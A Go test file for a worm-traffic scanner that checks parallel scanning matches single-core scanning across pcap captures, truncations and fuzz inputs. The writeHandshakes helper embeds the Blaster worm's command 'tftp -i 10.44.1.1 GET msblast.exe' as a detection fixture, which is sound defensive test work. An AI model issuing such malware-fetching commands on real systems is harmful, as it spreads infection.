package wire

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"

	"wormsink/internal/evidencetest"
	"wormsink/signatures"
)

// tinyChunks makes chunks of a few packets for the test, so fragments of
// one datagram and the evidence of neighbouring packets land in different
// chunks and workers.
func tinyChunks(t testing.TB, packets, bytes int) {
	oldP, oldB := chunkPackets, chunkBytes
	chunkPackets, chunkBytes = packets, bytes
	t.Cleanup(func() { chunkPackets, chunkBytes = oldP, oldB })
}

type scanResult struct {
	events []string
	counts []uint64
	errs   []string
	stats  Stats
}

// scanBoth scans files in order with one Matcher and with a
// ParallelScanner of n workers.
func scanBoth(t testing.TB, files [][]byte, names []string, n int, opt Options) (one, par scanResult) {
	t.Helper()
	run := func(scan func(ctx context.Context, data []byte, name string) (uint64, error), rec *evidencetest.Recorder, st func() Stats) scanResult {
		var r scanResult
		for i, f := range files {
			got, err := scan(context.Background(), f, names[i])
			r.counts = append(r.counts, got)
			if err != nil {
				r.errs = append(r.errs, err.Error())
			} else {
				r.errs = append(r.errs, "")
			}
		}
		for _, ev := range rec.Events() {
			r.events = append(r.events, fmt.Sprintf("%+v", ev))
		}
		r.stats = st()
		return r
	}
	set := StaticSet{signatures.Default()}
	var rec1, recN evidencetest.Recorder
	m := NewMatcher(set, &rec1, opt)
	one = run(func(ctx context.Context, d []byte, name string) (uint64, error) {
		return m.Scan(ctx, bytes.NewReader(d), name)
	}, &rec1, m.Stats)
	p := NewParallelScanner(set, &recN, opt, n)
	par = run(func(ctx context.Context, d []byte, name string) (uint64, error) {
		return p.Scan(ctx, bytes.NewReader(d), name)
	}, &recN, p.Stats)
	// And read in blocks at offsets by the workers (ScanFile's way with a
	// regular file): the same again.
	var recB evidencetest.Recorder
	b := NewParallelScanner(set, &recB, opt, n)
	blk := run(func(ctx context.Context, d []byte, name string) (uint64, error) {
		return b.scan(ctx, bytes.NewReader(d), bytes.NewReader(d), name)
	}, &recB, b.Stats)
	sameScan(t, "read in blocks", one, blk)
	return one, par
}

func sameScan(t testing.TB, what string, one, par scanResult) {
	t.Helper()
	// Which streams push which out of a full table depends on each
	// table's random seed: those counters may differ, the evidence not.
	for _, st := range []*Stats{&one.stats, &par.stats} {
		st.StreamEvicted, st.StreamRetransmits, st.StreamJoined, st.StreamGaps = 0, 0, 0, 0
	}
	if !reflect.DeepEqual(one, par) {
		t.Errorf("%s: parallel scan differs\none core: %d events %v %q %+v\nparallel: %d events %v %q %+v",
			what, len(one.events), one.counts, one.errs, one.stats, len(par.events), par.counts, par.errs, par.stats)
		for i := range min(len(one.events), len(par.events)) {
			if one.events[i] != par.events[i] {
				t.Errorf("first difference at event %d:\n%s\n%s", i, one.events[i], par.events[i])
				break
			}
		}
	}
}

// TestParallelScanSameAsOneCore: every capture in testdata (pcap, pcapng,
// gzip; VLAN, IPv6, fragments, malformed), scanned as one run of several
// files so reassembly state crosses files, a mixed capture with
// fragments, and the replay; with chunks of a few packets so datagrams
// span chunks; 1 and 3 workers. Evidence (order included), counts,
// errors and counters must equal the one-core scan's.
func TestParallelScanSameAsOneCore(t *testing.T) {
	var files [][]byte
	var names []string
	for _, dir := range []string{"crafted", "real", "public"} {
		paths, _ := filepath.Glob(filepath.Join("..", "testdata", "pcap", dir, "*"))
		for _, p := range paths {
			if filepath.Ext(p) == ".md" {
				continue
			}
			data, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			files = append(files, data)
			names = append(names, p)
		}
	}
	if len(files) < 20 {
		t.Fatalf("only %d captures in testdata", len(files))
	}
	hs := filepath.Join(t.TempDir(), "handshakes.pcap")
	writeHandshakes(t, hs)
	hsData, err := os.ReadFile(hs)
	if err != nil {
		t.Fatal(err)
	}
	files = append(files, hsData)
	names = append(names, "handshakes.pcap")
	mixed := filepath.Join(t.TempDir(), "mixed.pcap")
	writeMixed(t, mixed, 8_000)
	replay := filepath.Join(t.TempDir(), "replay.pcap")
	writeReplay(t, replay, 12_000, true)
	for _, p := range []string{mixed, replay} {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, data)
		names = append(names, filepath.Base(p))
		var gz bytes.Buffer
		zw := gzip.NewWriter(&gz)
		zw.Write(data)
		zw.Close()
		files = append(files, gz.Bytes())
		names = append(names, filepath.Base(p)+".gz")
	}
	for _, c := range []struct{ packets, bytes int }{{3, 1 << 12}, {4096, 1 << 20}} {
		tinyChunks(t, c.packets, c.bytes)
		for _, n := range []int{1, 3} {
			one, par := scanBoth(t, files, names, n, Options{})
			if len(one.events) < 60 {
				t.Fatalf("only %d events: the inputs are too tame", len(one.events))
			}
			proofs := map[string]int{}
			for _, e := range one.events {
				if strings.Contains(e, "handshakes.pcap") {
					proofs[e[strings.Index(e, "Proof:"):][:8]]++
				}
			}
			if len(proofs) < 2 {
				t.Fatalf("the handshake capture gives proofs %v: want both tcp and datagram", proofs)
			}
			sameScan(t, fmt.Sprintf("chunks of %d packets/%d bytes, %d workers", c.packets, c.bytes, n), one, par)
			if c.packets != 3 {
				continue
			}
			one, par = scanBoth(t, files, names, n, Options{AnyPort: true, FragDatagrams: 2})
			sameScan(t, fmt.Sprintf("any port, 2 datagrams: chunks of %d packets/%d bytes, %d workers", c.packets, c.bytes, n), one, par)
		}
	}
}

// writeHandshakes writes 60 TCP connections to port 4444, interleaved,
// each carrying Blaster's shell command: two in three after a complete
// handshake (proof tcp), the rest lone segments (proof datagram).
func writeHandshakes(t testing.TB, path string) {
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	w := pcapgo.NewWriter(f)
	if err := w.WriteFileHeader(65536, layers.LinkTypeEthernet); err != nil {
		t.Fatal(err)
	}
	seg := func(client byte, fromServer bool, flags byte, seq, ack uint32, payload []byte) []byte {
		tcp := tcpRaw(4444, payload)
		cport := uint16(40000 + uint16(client))
		binary.BigEndian.PutUint16(tcp[0:], cport)
		if fromServer {
			binary.BigEndian.PutUint16(tcp[0:], 4444)
			binary.BigEndian.PutUint16(tcp[2:], cport)
		}
		binary.BigEndian.PutUint32(tcp[4:], seq)
		binary.BigEndian.PutUint32(tcp[8:], ack)
		tcp[13] = flags
		ip := ip4Raw(protoTCP, tcp)
		c, srv := []byte{10, 44, 0, client}, []byte{10, 44, 1, 1}
		if fromServer {
			c, srv = srv, c
		}
		copy(ip[12:], c)
		copy(ip[16:], srv)
		return ethRaw(nil, 0x0800, ip)
	}
	var steps [][][]byte
	for i := range 60 {
		cmd := []byte(fmt.Sprintf("tftp -i 10.44.1.1 GET msblast.exe %d\r\n", i))
		c := byte(i + 1)
		if i%3 == 2 {
			steps = append(steps, [][]byte{seg(c, false, 0x18, 101, 501, cmd)})
			continue
		}
		steps = append(steps, [][]byte{seg(c, false, 0x02, 100, 0, nil), seg(c, true, 0x12, 500, 101, nil),
			seg(c, false, 0x10, 101, 501, nil), seg(c, false, 0x18, 101, 501, cmd)})
	}
	ts := baseTime
	for round := 0; ; round++ {
		wrote := false
		for _, st := range steps {
			if round < len(st) {
				ts = ts.Add(time.Millisecond)
				if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: ts, CaptureLength: len(st[round]), Length: len(st[round])}, st[round]); err != nil {
					t.Fatal(err)
				}
				wrote = true
			}
		}
		if !wrote {
			return
		}
	}
}

// TestParallelScanTruncated: a capture cut at every byte offset near its
// end, and in its middle, gives the same packets, error and evidence.
func TestParallelScanTruncated(t *testing.T) {
	tinyChunks(t, 5, 1<<12)
	path := filepath.Join(t.TempDir(), "mixed.pcap")
	writeMixed(t, path, 3000)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var cuts []int
	for i := 0; i < 60; i++ {
		cuts = append(cuts, len(data)-i, len(data)/2+i, 24+i)
	}
	for _, cut := range cuts {
		if cut < 0 {
			continue
		}
		one, par := scanBoth(t, [][]byte{data[:cut]}, []string{"cut"}, 2, Options{})
		sameScan(t, fmt.Sprintf("cut at %d", cut), one, par)
	}
	// A record longer than its snap length, and one longer than a chunk.
	bad := bytes.Clone(data)
	bad[24+8] = 0xff
	bad[24+9] = 0xff
	bad[24+10] = 0x0f
	one, par := scanBoth(t, [][]byte{bad}, []string{"bad"}, 2, Options{})
	if one.errs[0] == "" {
		t.Fatal("no error for a record longer than the snap length")
	}
	sameScan(t, "bad length", one, par)
}

// FuzzParallelScan is differential: any bytes scan the same on one core
// and on three workers with tiny chunks.
func FuzzParallelScan(f *testing.F) {
	tinyChunks(f, 2, 256)
	for _, p := range []string{"crafted/frag-tiny-last.pcap", "crafted/mixed.pcapng", "crafted/vlan-msblast.pcap", "real/tftp-hpa-msblast.pcap.gz"} {
		data, err := os.ReadFile(filepath.Join("..", "testdata", "pcap", p))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		one, par := scanBoth(t, [][]byte{data}, []string{"fuzz"}, 3, Options{AnyPort: true})
		sameScan(t, "fuzz", one, par)
	})
}
